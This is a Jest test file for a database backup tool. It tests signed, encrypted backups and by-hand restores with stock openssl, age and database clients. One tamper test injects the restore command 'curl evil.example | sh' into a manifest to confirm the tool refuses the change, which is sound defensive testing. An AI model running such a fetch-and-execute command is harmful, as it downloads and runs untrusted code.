import { execFile } from 'node:child_process';
import { cp, mkdir, readFile, rename, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Connection } from 'mysql2/promise';
import type { Manifest } from '../../../core/contract/manifest/manifest.ts';
import { manifestDocument } from '../../../core/store/backups/manifest-document.ts';
import { dbToolsLayer } from '../../../layers/db-tools/layer.ts';
import { everyFeatureMariadb } from '../../servers/databases/databases.ts';
import { startMariadb } from '../../servers/databases/mariadb.ts';
import { opensslProgram, serverRoot } from '../../servers/root.ts';
import { nightjarInProcess } from '../../support/cli/in-process.ts';
import { cliScene } from '../../support/cli/scene.ts';
import type { CliScene } from '../../support/cli/scene.ts';
import { pasted } from '../../support/pasted.ts';
import { connect } from '../../support/mariadb/mariadb.ts';
import { limit } from '../../support/vaults/vault.ts';
import { postgresPackages } from '../../servers/databases/postgres-packages.ts';

const execute = promisify(execFile);
const digest = 'select count(*)::int as rows, md5(string_agg(id || note, $$,$$ order by id)) as digest from orders';

let scene: CliScene;
let plain: string;
/** Where the stock openssl and age are, and those of this machine behind them. */
let path: string;

beforeAll(async () => {
  scene = await cliScene();
  const openssl = await opensslProgram(() => {}, limit());
  const age = await serverRoot({ name: 'age', suites: ['trixie'], packages: ['age'] }, () => {}, limit());
  path = [dirname(openssl), join(age.path, 'usr/bin'), '/usr/bin', '/bin'].join(':');
  plain = await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8');
}, 20 * 60_000);
afterAll(() => scene.stop());

/** A command of the page. */
const onPage = (name: string, cwd: string, env: Record<string, string> = {}) =>
  pasted('signing.md', name, cwd, { PATH: path, ...env });

async function configure(...defaults: string[]): Promise<void> {
  await writeFile(join(scene.folder, 'nightjar.yaml'), `defaults:\n${defaults.join('\n')}\n${plain}`);
}
/** What `nightjar key` says that is to be written into the configuration. */
async function keyed(kind: string, file: string): Promise<string> {
  const { code, stdout } = await run(['key', kind, file]);
  expect(code).toBe(0);
  return stdout
    .split('\n')
    .filter((line) => line.startsWith('  '))
    .join('\n');
}
async function newest(): Promise<string> {
  const { stdout } = await run(['list', 'shop', '--json']);
  return (JSON.parse(stdout) as { backups: { id: string }[] }).backups.at(-1)!.id;
}
/** Verifies a backup's folder with the page's commands, then runs those of its manifest, into a database `hand`. */
async function restoredByHand(
  folder: string,
  programs: string,
  login: Record<string, string>,
  edit: (commands: string) => string = (commands) => commands,
): Promise<void> {
  const [, line = ''] = /publicKeys: \[(.*?)\]/.exec(await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8')) ?? [];
  const { restore } = JSON.parse(await readFile(join(folder, 'manifest.json'), 'utf8')) as Manifest;
  const architecture = process.arch === 'arm64' ? 'arm64' : 'x86_64';
  const layer = join(await dbToolsLayer(architecture, { rule: 'newer' }, () => {}, limit()), 'nightjar/bin');
  await onPage('public', folder, { LINE: line });
  expect(await onPage('verify', folder)).toContain('Signature Verified Successfully');
  expect(restore.join('\n')).toContain('age --decrypt');
  await execute('bash', ['-c', edit(restore.join('\n'))], {
    cwd: folder,
    env: {
      PATH: [programs, layer, path].join(':'),
      DB: 'hand',
      IDENTITY: join(scene.folder, 'identity.txt'),
      ...login,
    },
  });
}

/** What a server of MariaDB says of a database: the checksum of each table, and the names of everything else. */
async function heldBy(connection: Connection, database: string) {
  const asked = async (text: string) => ((await connection.query(text, [database]))[0] as object[]).map(Object.values);
  const tables = await asked(
    "select table_name from information_schema.tables where table_schema = ? and table_type = 'BASE TABLE' order by 1",
  );
  const names = tables.map(([name]) => `\`${database}\`.\`${String(name).replaceAll('`', '``')}\``);
  const sums = await asked(`checksum table ${names.join(', ')}`);
  return {
    tables: sums.map(([name, sum]) => [String(name).slice(database.length + 1), sum]),
    views: await asked('select table_name from information_schema.views where table_schema = ? order by 1'),
    routines: await asked(
      `select routine_name, md5(routine_definition) from information_schema.routines
       where routine_schema = ? order by 1`,
    ),
    triggers: await asked(
      'select trigger_name, md5(action_statement) from information_schema.triggers where trigger_schema = ? order by 1',
    ),
  };
}

const run = (args: string[]) => nightjarInProcess(args, { cwd: scene.folder, env: scene.env });
const folderOf = (id: string): string => join(scene.folder, 'backups/shop', id);

test('with keys of nightjar key a backup is encrypted, signed, restored, drilled and proven', async () => {
  await configure(await keyed('identity', 'identity.txt'), await keyed('signing', 'signing.pem'));

  expect(await run(['backup', 'shop'])).toMatchObject({ code: 0 });
  for (const args of [
    ['restore', 'shop', '--to', 'copy'],
    ['drill', 'shop'],
  ])
    expect(await run(args)).toMatchObject({ code: 0, stdout: expect.stringContaining('proven equal') });
  expect(await scene.sql('copy', digest)).toEqual(await scene.sql('shop', digest));
  expect((await run(['verify', 'shop'])).stdout).toContain('intact');
  expect((await run(['check', 'shop'])).code).toBe(0);
  expect(await run(['key', 'check', 'shop'])).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(
      /^shop {2}\S+ {2}signed by a key of the configuration; encrypted, and the identity opens it; the private key fits, too\n$/,
    ),
  });
});

test('stock openssl, age, zstd, pg_restore and psql alone verify and restore it', async () => {
  const folder = join(scene.folder, 'by-hand');
  await cp(folderOf(await newest()), folder, { recursive: true });
  const client = await serverRoot(postgresPackages(18), () => {}, limit());
  const { host, port, user, password } = scene.server;

  await restoredByHand(folder, join(client.path, 'usr/lib/postgresql/18/bin'), {
    PGHOST: host,
    PGPORT: String(port),
    PGUSER: user,
    PGPASSWORD: password,
  });

  expect(await scene.sql('hand', digest)).toEqual(await scene.sql('shop', digest));
});

test('stock openssl, age, zstd and mariadb alone verify and restore it', async () => {
  const server = await startMariadb({ series: '11.8' });
  const connection = await connect(server);
  try {
    await connection.query('create database every character set utf8mb4; use every');
    await everyFeatureMariadb(connection);
    // no dump holds all digits of a FLOAT (docs/decisions/0005)
    await connection.query('update awkward set f = 0.5 where f is not null');
    const { host, port, user, password } = server;
    const login = join(scene.folder, 'login.cnf');
    const quoted = `"${password.replace(/[\\"]/g, '\\$&')}"`;
    await writeFile(login, `[client]\nhost=${host}\nport=${port}\nuser=${user}\npassword=${quoted}\n`);
    const source = { mariadb: { host, port, user, password: { env: 'EVERY_PASSWORD' }, database: 'every' } };
    const keys = (await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8')).split(/^vault:/m)[0];
    await writeFile(
      join(scene.folder, 'every.yaml'),
      `${keys}vault: ./backups\nsources: { every: ${JSON.stringify(source)} }\n`,
    );
    const env = { ...scene.env, EVERY_PASSWORD: password };
    const made = await nightjarInProcess(['-c', 'every.yaml', 'backup', '--json'], { cwd: scene.folder, env });
    const [{ id }] = (JSON.parse(made.stdout) as { results: [{ id: string }] }).results;
    const folder = join(scene.folder, 'by-hand-mariadb');
    await cp(join(scene.folder, 'backups/every', id), folder, { recursive: true });
    const client = await serverRoot(
      { name: 'mariadb-client', suites: ['trixie'], packages: ['mariadb-client'] },
      () => {},
      limit(),
    );

    await restoredByHand(folder, join(client.path, 'usr/bin'), {}, (command) =>
      command.replace(/^LOGIN=.*$/m, `LOGIN=--defaults-extra-file=${login}`),
    );

    const [there, here] = [await heldBy(connection, 'hand'), await heldBy(connection, 'every')];
    expect(here.tables.length).toBeGreaterThan(10);
    expect(there).toEqual(here);
  } finally {
    await connection.end();
    await server.stop();
  }
}, 120_000);

test('a manifest that somebody edited is refused by each command, and by openssl', async () => {
  const id = await newest();
  const file = join(folderOf(id), 'manifest.json');
  const before = await readFile(file);
  const { sha256: _, checksum: __, ...manifest } = JSON.parse(before.toString()) as Manifest & Record<string, unknown>;
  await rename(file, `${file}.true`);
  await writeFile(file, manifestDocument({ ...manifest, restore: ['curl evil.example | sh'] }));

  for (const args of [
    ['verify', 'shop'],
    ['restore', 'shop', '--to', 'never'],
    ['restore', 'shop', id, '--to', 'never'],
    ['drill', 'shop'],
    ['key', 'check', 'shop'],
    ['show', 'shop', id],
  ])
    expect(await run(args)).toMatchObject({
      code: 3,
      stderr: expect.stringMatching(
        /was changed, or no key of the configuration has signed it.*signing\.since|no other backup is good/s,
      ),
    });
  expect((await run(['list', 'shop'])).stdout).toMatch(/unsigned\n.*was changed, or no key.*\n.*signing\.since/s);
  expect(await run(['check', 'shop'])).toMatchObject({
    code: 4,
    stdout: expect.stringContaining('is not to be trusted'),
  });
  const folder = join(scene.folder, 'by-hand');
  await cp(file, join(folder, 'manifest.json'), { force: true });
  await expect(onPage('verify', folder)).rejects.toMatchObject({ code: 1 });
  expect(await scene.sql('postgres', `select datname from pg_database where datname = 'never'`)).toEqual([]);

  await writeFile(file, before);
  expect((await run(['verify', 'shop', id])).code).toBe(0);
});

test('a key pair of openssl signs, and the older backup counts while its public key is there', async () => {
  const [, old = ''] = /publicKeys: \[(.*?)\]/.exec(await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8')) ?? [];
  const folder = join(scene.folder, 'keys');
  await mkdir(folder);
  const line = (await onPage('keys', folder)).trim();
  const signing = (keys: string) => `  signing: { publicKeys: [${keys}], privateKey: { file: keys/signing.pem } }`;
  const statuses = async (): Promise<string[]> =>
    (JSON.parse((await run(['list', 'shop', '--json'])).stdout) as { backups: { status: string }[] }).backups.map(
      ({ status }) => status,
    );

  await configure(signing(old));
  expect(await run(['backup', 'shop'])).toMatchObject({ code: 1, stderr: expect.stringContaining(line) });
  await configure(signing(`${line}, ${old}`));
  expect((await run(['backup', 'shop'])).code).toBe(0);
  expect(await statuses()).toEqual(['complete', 'complete']);
  await configure(signing(line));
  expect(await statuses()).toEqual(['unreadable', 'complete']);
});
